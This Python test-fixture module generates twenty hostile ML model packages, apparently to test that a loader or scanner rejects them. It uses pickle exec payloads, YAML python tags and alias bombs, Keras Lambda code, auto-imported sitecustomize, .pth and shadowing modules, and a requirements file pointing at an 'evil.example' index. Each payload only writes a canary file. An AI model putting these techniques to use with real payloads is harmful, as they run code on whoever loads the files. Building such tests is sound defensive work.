"""
Models that run code, or grow without end, in whoever loads them or what they bring along.

Each writes a file, the canary, where its code runs. Where a model is one of those that nobody can load without the package
that it is for, its bytes are of that form all the same.
"""

from __future__ import annotations

import io
import json
import zipfile
import zlib
from pathlib import Path

SKLEARN = """
flavors:
  python_function: {loader_module: mlflow.sklearn, model_path: model.pkl, predict_fn: predict}
  sklearn: {pickled_model: model.pkl, serialization_format: cloudpickle}
"""
MODULE = "flavors: {python_function: {loader_module: evil, code: code, data: data}}\n"


def hostile_models(canary: Path) -> dict[str, dict[str, bytes]]:
    """Make 20 models by what is hostile about them; each is its files."""
    code = f"import pathlib; pathlib.Path({str(canary)!r}).write_text('ran')"
    program, pickled = code.encode(), b"cbuiltins\nexec\n(V" + code.encode("unicode_escape") + b"\ntR."
    tag = f'!!python/object/apply:builtins.exec ["{code}"]'
    aliases = "\n".join(
        ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
        + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    )
    plain = {"MLmodel": SKLEARN.encode(), "model.pkl": b"0"}
    return {
        "a pickle": {**plain, "model.pkl": pickled},
        "a compressed joblib": {**plain, "model.joblib": zlib.compress(pickled)},
        "an array of objects": {"MLmodel": SKLEARN.encode(), "weights.npy": _npy(pickled)},
        "a torch archive": {"MLmodel": MODULE.encode(), "data/model.pt": _zip({"archive/data.pkl": pickled})},
        "a keras archive with a lambda": {"MLmodel": MODULE.encode(), "model.keras": _zip(_keras(code))},
        "a loader module beside it": {"MLmodel": MODULE.encode(), "code/evil.py": program, "data/x": b"1"},
        "python tags in MLmodel": {**plain, "MLmodel": f"flavors: {tag}\n".encode()},
        "python tags in conda.yaml": {**plain, "conda.yaml": f"dependencies: {tag}\n".encode()},
        "python tags in python_env.yaml": {**plain, "python_env.yaml": f"python: {tag}\n".encode()},
        "aliases in conda.yaml": {**plain, "conda.yaml": aliases.encode()},
        "depth in conda.yaml": {**plain, "conda.yaml": b"dependencies: " + b"[" * 60_000},
        "a number for dependencies": {**plain, "conda.yaml": b"dependencies: 5\n"},
        "a conda.yaml that is none": {**plain, "conda.yaml": b"\xff\xfe\x00: ["},
        "a conda.yaml without end": {**plain, "conda.yaml": b"#" + b"x" * 3_000_000},
        "a local file to install": {
            **plain, "requirements.txt": b"-e .\n--index-url https://evil.example/\n./evil.whl\n", "setup.py": program,
        },
        "modules that Python imports by itself": {
            **plain, "sitecustomize.py": program, "usercustomize.py": program, "conftest.py": program,
        },
        "a path file": {**plain, "evil.pth": b"import os; " + program},
        "a package named like ours": {**plain, "mlops_core/__init__.py": program, "mlflow/__init__.py": program},
        "compiled code": {**plain, "__pycache__/json.cpython-311.pyc": program, "json.py": program},
        "a scoring script and a shell": {"score.py": program, "run.sh": b"#!/bin/sh\ntouch x\n", "model.pkl": pickled},
    }  # fmt: skip


def _npy(content: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + content


def _zip(files: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return file.getvalue()


def _keras(code: str) -> dict[str, bytes]:
    layer = {"class_name": "Lambda", "config": {"function": code}}
    return {"config.json": json.dumps({"config": {"layers": [layer]}}).encode(), "metadata.json": b"{}"}
